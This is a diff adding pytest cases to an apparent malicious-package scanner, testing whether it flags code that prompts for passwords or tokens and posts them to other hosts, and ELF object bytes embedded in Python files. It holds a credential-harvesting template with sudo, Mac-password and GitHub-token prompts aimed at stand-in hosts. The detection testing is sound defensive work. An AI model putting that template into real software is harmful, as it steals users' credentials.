@@ -141,3 +141,47 @@ PUBLISHES = "import subprocess\nsubprocess.check_call(['git', 'push', 'origin', 
 )
 def test_what_is_no_package_of_a_source_is_run_by_who_works_on_it(path: str, more: dict[str, str], told: bool) -> None:
     assert ("MLS-C047" in found({"PKG-INFO": "", **init(""), path: PUBLISHES, **more})) is told
+
+
+SIGNS_IN = (
+    "import getpass, requests\ntyped = getpass.getpass({!r})\nrequests.post({!r}, json={{'email': 'a', 'typed': typed}})\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("path", "prompt", "address", "told"),
+    [
+        ("tool/__main__.py", "Password: ", "https://api.demo.example/login", False),
+        ("tool/__main__.py", "Your GitHub token: ", "https://api.github.com/user", False),
+        ("tool/__main__.py", "Your GitHub token: ", "https://api.demo.example/login", True),
+        ("tool/__main__.py", "Password of your Mac: ", "https://api.demo.example/login", True),
+        ("tool/__main__.py", "[sudo] password for me: ", "https://api.demo.example/login", True),
+        ("tool/__main__.py", "Password: ", "http://203.0.113.9/login", True),
+        ("demo/__init__.py", "Password: ", "https://api.demo.example/login", True),
+    ],
+    ids=["a login", "its own", "another's", "of the machine", "of its administrator", "to a number", "on import"],
+)
+def test_what_a_program_asks_for_at_a_prompt_it_may_send(path: str, prompt: str, address: str, told: bool) -> None:
+    assert bool(found({**init(""), path: SIGNS_IN.format(prompt, address)})) is told
+
+
+def _elf(kind: int, segments: int) -> str:
+    head = bytearray(b"\x7fELF\x02\x01\x01" + bytes(57))
+    head[16], head[18], head[56] = kind, 62, segments
+    return (bytes(head) + b".text\0.symtab\0import os\n" * 8).hex()
+
+
+@pytest.mark.parametrize(
+    ("path", "kind", "segments", "told"),
+    [
+        ("demo/tests/test_link.py", 1, 0, False),
+        ("demo/tests/test_link.py", 2, 1, True),
+        ("demo/tests/test_link.py", 1, 1, True),
+        ("demo/tests/link.py", 1, 0, True),
+        ("demo/link.py", 1, 0, True),
+    ],
+    ids=["an object in a test", "a program in a test", "an object with segments", "no test", "an object elsewhere"],
+)
+def test_an_object_file_that_a_test_links(path: str, kind: int, segments: int, told: bool) -> None:
+    text = f"PART = bytes.fromhex({_elf(kind, segments)!r})\n"
+    assert ("MLS-C025" in found({**init(""), path: text})) is told
